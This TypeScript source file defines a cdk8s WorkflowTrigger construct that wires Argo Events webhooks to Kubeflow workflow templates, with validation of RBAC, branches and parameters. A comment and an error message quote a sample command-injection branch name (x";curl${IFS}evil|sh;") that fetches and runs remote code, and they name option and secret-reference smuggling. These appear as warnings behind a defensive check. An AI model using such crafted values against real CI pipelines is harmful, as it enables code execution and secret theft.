import { ApiObject } from 'cdk8s';
import { Construct } from 'constructs';
import { hasBrand } from '../brands';
import type { IWorkflowTemplate } from '../kubeflow/profile-workflow-template';
import { Platform, resolvePlatform } from '../platform';
import {
  checkBoolean, checkDnsLabel, checkKnownKeys, checkList, checkNamespace, fail, propNames, requireString, snapshotProps, Where, whereIn,
} from '../validation';
import { ArgoEventsRbac, workflowVerbs } from './argo-events-rbac';
import { EventField } from './event-field';
import { SensorObject, TriggerParameter } from './events-api';
import type { IEventSource } from './event-source';
import { EVENT_KINDS, PUSH_SOURCE_TYPES } from './event-kinds';

const at = whereIn('WorkflowTrigger');

// the compiler checks these lists against the interfaces (propNames)
/** Keys of {@link WorkflowTriggerOptions}, for {@link WebhookEventSource.addTrigger}. */
export const TRIGGER_OPTIONS = propNames<WorkflowTriggerOptions>()(
  'submitFrom', 'eventName', 'template', 'namespace', 'rbac', 'parameters', 'branches', 'name', 'allowShellInterpolation',
);
const PROPS = propNames<WorkflowTriggerProps>()(
  'platform', 'eventSource', 'submitFrom', 'eventName', 'template', 'namespace', 'rbac', 'parameters', 'branches', 'name',
  'allowShellInterpolation',
);

/** Props for {@link WorkflowTrigger}. */
export interface WorkflowTriggerProps extends WorkflowTriggerOptions {
  /**
   * Platform preset: which Argo Events trigger operations exist.
   * @default - the event source's platform
   */
  readonly platform?: Platform;

  /**
   * The event source whose events start the workflow: a {@link WebhookEventSource} or one
   * imported with `WebhookEventSource.fromEventSourceName`. `source.addTrigger()` sets it.
   */
  readonly eventSource: IEventSource;
}

/** What a trigger adds to its event source ({@link WebhookEventSource.addTrigger}). */
export interface WorkflowTriggerOptions {
  /**
   * Use `operation: submit-from` (Argo Events v1.8+, Kubeflow 1.5 and later presets) instead of
   * submitting a `workflowTemplateRef` Workflow. submit-from cannot pass event fields as
   * workflow parameters, so it is refused together with `parameters`.
   * @default false
   */
  readonly submitFrom?: boolean;

  /**
   * Which of the source's events to react to.
   * @default - the source's only event
   */
  readonly eventName?: string;

  /**
   * The WorkflowTemplate to run: a {@link ProfileWorkflowTemplate}, or one made elsewhere
   * (`ProfileWorkflowTemplate.fromWorkflowTemplateName`).
   */
  readonly template: IWorkflowTemplate;

  /**
   * Namespace the Workflow is submitted to; must be the template's.
   * @default - the template's namespace
   */
  readonly namespace?: string;

  /**
   * Sensor RBAC. The Sensor runs as its ServiceAccount, which must be in the Sensor's
   * namespace and grant `submit`. The trigger binds it in its target namespace
   * ({@link ArgoEventsRbac.grantIn}).
   * @default - ServiceAccount "operate-workflow-sa" in the source's namespace, managed elsewhere
   */
  readonly rbac?: ArgoEventsRbac;

  /**
   * Workflow parameters filled from the event: template parameter name → event field, e.g.
   * `{ 'repo-url': EventField.repositoryUrl(), revision: EventField.revision() }`.
   * Every name must be a parameter the template declares.
   * @default {}
   */
  readonly parameters?: Record<string, EventField>;

  /**
   * Only react to pushes to these branches (github/gitlab). Deleting one of them (a push whose
   * `after` is all zeros) does not trigger.
   * @default - every push
   */
  readonly branches?: string[];

  /**
   * Sensor name.
   * @default - "<source>-<template>" (with the namespace when it differs per profile)
   */
  readonly name?: string;

  /**
   * Let event data reach a template anywhere but an environment variable (`script.source`, a
   * `sh -c` script, command arguments, `when`, ...). Risky: Argo substitutes `{{…}}` as text, so
   * whoever can send an event (a git push with a crafted branch name such as
   * `x";curl${IFS}evil|sh;"`) runs code in the profile namespace. Pass values as environment
   * variables instead (see the error message and lib/kubeflow/shell-sinks.ts).
   * @default false
   */
  readonly allowShellInterpolation?: boolean;
}

/**
 * A Sensor that submits a Workflow running a WorkflowTemplate (`spec.workflowTemplateRef`)
 * whenever its event source fires. Submitting a `workflowTemplateRef` Workflow works on Argo
 * Events v1.5, which has no `submit-from`. The Workflow goes into the template's namespace
 * (a Kubeflow profile) and runs with the template's service account and injection settings;
 * the Sensor itself runs as `operate-workflow-sa`.
 */
export class WorkflowTrigger extends Construct {
  /** The Sensor (also `ApiObject.of(trigger)`). */
  public readonly sensor: ApiObject;
  /** Sensor name. */
  public readonly name: string;
  /** Dependency name used in the Sensor. */
  public readonly dependencyName: string;
  /** Namespace the Workflow is submitted to. */
  public readonly targetNamespace: string;
  /** Name of the WorkflowTemplate it runs. */
  public readonly templateName: string;
  /** The platform preset. */
  public readonly platform: Platform;

  constructor(scope: Construct, id: string, props: WorkflowTriggerProps) {
    super(scope, id);
    // A construct whose props are refused leaves the tree as it was (it removes itself).
    try {
      props = snapshotProps('WorkflowTrigger', props);
      if (!props) fail(at('props'), props, 'are required', 'pass { eventSource, template }');
      checkKnownKeys(at(''), props, PROPS);
      const source = checkSource(props);
      this.platform = resolvePlatform(at('platform'), props.platform, this, { platform: source.platform, from: 'eventSource' });
      const submitFrom = checkSubmitFrom(props, this.platform);
      const eventName = props.eventName ?? source.eventNames[0];
      if (!source.eventNames.includes(eventName)) {
        fail(at('eventName'), eventName,
          `is not an event of EventSource "${source.name}" (it emits ${source.eventNames.map((e) => `"${e}"`).join(', ')})`, 'use one of those names');
      }
      const template = checkTemplate(props);
      this.templateName = template.name;
      this.targetNamespace = template.namespace;
      const serviceAccountName = props.rbac === undefined ? 'operate-workflow-sa' : checkRbac(props.rbac, source.namespace, submitFrom);
      const params = checkParameters(props, template);
      const push = checkBranches(props, source);

      this.name = checkDnsLabel(at('name'), props.name ?? `${source.name}-${template.name}`);
      this.dependencyName = `${source.name}-${eventName}`;
      const parameters: TriggerParameter[] = Object.keys(params).map((p, i) => ({
        src: { dependencyName: this.dependencyName, ...resolveField(params[p], source, p) },
        dest: `spec.arguments.parameters.${i}.value`,
      }));
      this.sensor = new SensorObject(this, 'Resource', {
        metadata: { name: this.name, namespace: source.namespace },
        spec: {
          template: {
            serviceAccountName,
            ...(source.eventBus ? { metadata: { annotations: { ...source.eventBus.clientPodAnnotations } } } : {}),
          },
          dependencies: [{ name: this.dependencyName, eventSourceName: source.name, eventName, ...(push ? { filters: branchFilters(push) } : {}) }],
          triggers: [{
            template: {
              name: `submit-${template.name}`,
              argoWorkflow: submitFrom ? submitFromTemplate(template) : submitWorkflow(template, Object.keys(params), parameters),
            },
          }],
        },
      });
      // Last, once nothing can be refused any more: the grant changes another construct, which
      // removing this one would not undo. The Sensor's account may act in the target namespace,
      // and (without clusterWide) only there.
      props.rbac?.grantIn(this.targetNamespace);
    } catch (e) {
      scope.node.tryRemoveChild(id);
      throw e;
    }
  }
}

function checkSource(props: WorkflowTriggerProps): IEventSource {
  const source = props.eventSource;
  if (!hasBrand(source, 'EventSource')) {
    fail(at('eventSource'), typeof source, 'must be a WebhookEventSource, or one from WebhookEventSource.fromEventSourceName', 'pass the event source construct');
  }
  return source;
}

function checkSubmitFrom(props: WorkflowTriggerProps, platform: Platform): boolean {
  const submitFrom = checkBoolean(at('submitFrom'), props.submitFrom ?? false);
  if (submitFrom && !platform.spec.argoEvents.submitFrom) {
    fail(at('submitFrom'), true,
      `is not available on platform ${platform.id} (${platform.spec.argoEvents.release} has no submit-from operation)`,
      'leave submitFrom off: a workflowTemplateRef Workflow runs the same template on every release');
  }
  if (submitFrom && props.parameters && Object.keys(props.parameters).length > 0) {
    fail(at('submitFrom'), true, 'cannot pass event fields as workflow parameters (parameters is set)',
      'leave submitFrom off to map parameters, or drop parameters');
  }
  return submitFrom;
}

/** The template, which must live in the namespace the Workflow goes to (`namespace`, when given). */
function checkTemplate(props: WorkflowTriggerProps): IWorkflowTemplate {
  const template = props.template;
  if (!hasBrand(template, 'WorkflowTemplate')) {
    fail(at('template'), template, 'must be a ProfileWorkflowTemplate, or one from ProfileWorkflowTemplate.fromWorkflowTemplateName',
      'pass the template construct, or import one made elsewhere by name');
  }
  const namespace = checkNamespace(at('namespace'), props.namespace ?? template.namespace);
  if (namespace !== template.namespace) {
    fail(at('namespace'), namespace,
      `does not hold the template "${template.name}", which is in "${template.namespace}" (a workflowTemplateRef only finds templates in the Workflow's own namespace)`,
      'leave namespace out, or pass the template of that namespace');
  }
  return template;
}

/** The Sensor's ServiceAccount from `rbac`, which must live beside the Sensor and grant what the operation needs. */
function checkRbac(rbac: unknown, sensorNamespace: string, submitFrom: boolean): string {
  if (!ArgoEventsRbac.isArgoEventsRbac(rbac)) {
    fail(at('rbac'), typeof rbac, 'must be an ArgoEventsRbac construct', 'pass the ArgoEventsRbac instance');
  }
  if (rbac.namespace !== sensorNamespace) {
    fail(at('rbac'), rbac.namespace,
      `puts the ServiceAccount in "${rbac.namespace}" but the Sensor runs in "${sensorNamespace}" (a pod can only use a ServiceAccount of its own namespace)`,
      'put ArgoEventsRbac in the event source namespace');
  }
  const operation = submitFrom ? 'submit-from' : 'submit';
  const needed = workflowVerbs([operation]);
  const granted = workflowVerbs(rbac.operations);
  if (!needed.every((v) => granted.includes(v))) {
    fail(at('rbac'), rbac.operations, `does not grant the verbs ${operation} needs on workflows (${needed.join(', ')})`, `add "${operation}" to ArgoEventsRbac operations`);
  }
  return rbac.serviceAccountName;
}

/** The parameters, sorted by name: each an EventField for a parameter the template declares, none reaching a shell. */
function checkParameters(props: WorkflowTriggerProps, template: IWorkflowTemplate): Record<string, EventField> {
  const params = props.parameters ?? {};
  if (params === null || typeof params !== 'object' || Array.isArray(params)) {
    fail(at('parameters'), params, 'must be an object of parameter name to EventField', 'pass e.g. { revision: EventField.revision() }');
  }
  const paramNames = Object.keys(params).sort();
  for (const p of paramNames) {
    if (template.parameterNames && !template.parameterNames.includes(p)) {
      fail(at(`parameters.${p}`), p,
        `is not a parameter of WorkflowTemplate "${template.name}" (it declares ${template.parameterNames.map((n) => `"${n}"`).join(', ') || 'none'})`,
        'declare it in the template\'s arguments.parameters or map one of the declared names');
    }
    if (!EventField.isEventField(params[p])) {
      fail(at(`parameters.${p}`), params[p], 'must be an EventField', 'use EventField.revision(), EventField.path("body.x"), …');
    }
  }
  const allowShell = checkBoolean(at('allowShellInterpolation'), props.allowShellInterpolation ?? false);
  const sink = allowShell ? undefined : template.shellSinks(paramNames)[0];
  if (sink) {
    fail(at(`parameters.${sink.parameter}`), params[sink.parameter].description,
      `would be read as more than data: WorkflowTemplate "${template.name}" puts it into ${sink.location} of template "${sink.template}", and Argo substitutes {{…}} as text, so a crafted event (a branch named x";curl\${IFS}evil|sh;", an option like --upload-pack=…, a $(SECRET) reference) runs commands or leaks secrets as the workflow's service account`,
      'pass it only as an environment variable (env: [{ name: "BRANCH", value: "{{inputs.parameters.branch}}" }], then "$BRANCH" in the script), listed before any env entry valueFrom a Secret; or set allowShellInterpolation: true if the event source is trusted');
  }
  return Object.fromEntries(paramNames.map((p) => [p, params[p]]));
}

/** The branches with the push fields of the source's provider, or undefined without `branches`. */
function checkBranches(props: WorkflowTriggerProps, source: IEventSource): { branches: string[]; ref: string; after: string } | undefined {
  if (props.branches === undefined) return undefined;
  const branches = checkList(at('branches'), props.branches, checkBranch);
  const push = EVENT_KINDS[source.type].push;
  if (!push) {
    fail(at('branches'), branches, `needs a ${PUSH_SOURCE_TYPES.join(' or ')} source (${EVENT_KINDS[source.type].title} has no push ref)`, 'remove branches');
  }
  return { branches, ref: push.ref, after: push.after };
}

/**
 * Argo Events matches string data filters as regular expressions: anchor and escape, or "main"
 * would also match "refs/heads/main-old". A branch deletion is a push too (GitHub and GitLab send
 * `after` as forty zeros): the second filter, ANDed, needs a commit in `after` (Go regexp has no
 * look-ahead, so: any non-zero hex digit).
 */
function branchFilters(push: { branches: string[]; ref: string; after: string }) {
  return {
    data: [
      { path: push.ref, type: 'string', value: push.branches.map((b) => `^refs/heads/${escapeRegExp(b)}$`) },
      { path: push.after, type: 'string', value: ['[1-9a-f]'] },
    ],
  };
}

/** `submit-from` (Argo Events v1.8+): the template itself as the source, no parameters. */
function submitFromTemplate(template: IWorkflowTemplate) {
  return {
    operation: 'submit-from',
    source: { resource: { apiVersion: 'argoproj.io/v1alpha1', kind: 'WorkflowTemplate', metadata: { name: template.name, namespace: template.namespace } } },
  };
}

/** `submit`: a Workflow that references the template, its parameters filled from the event. */
function submitWorkflow(template: IWorkflowTemplate, paramNames: readonly string[], parameters: TriggerParameter[]) {
  return {
    operation: 'submit',
    source: {
      resource: {
        apiVersion: 'argoproj.io/v1alpha1',
        kind: 'Workflow',
        metadata: { generateName: `${template.name}-`, namespace: template.namespace },
        spec: {
          workflowTemplateRef: { name: template.name },
          ...(paramNames.length ? { arguments: { parameters: paramNames.map((name) => ({ name, value: '' })) } } : {}),
        },
      },
    },
    parameters,
  };
}

function resolveField(field: EventField, source: IEventSource, param: string) {
  try {
    return field.resolve(source.type);
  } catch (e) {
    if (e instanceof Error && e.name === 'ValidationError') { // also from another copy of the package
      fail(at(`parameters.${param}`), field.description, `cannot be read from a ${source.type} event: ${e.message}`,
        source.type === 'calendar' ? 'use EventField.path("eventTime") or EventField.path("metadata.<key>")' : 'use EventField.path("body.<field>") for generic webhooks');
    }
    throw e;
  }
}

function checkBranch(where: Where, value: unknown): string {
  requireString(where, value);
  if (value.startsWith('refs/') || /[\s~^:?*[\\]/.test(value) || value.includes('..')) {
    fail(where, value, 'must be a plain branch name (without refs/heads/)', 'use e.g. "main"');
  }
  return value;
}

function escapeRegExp(s: string): string {
  return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
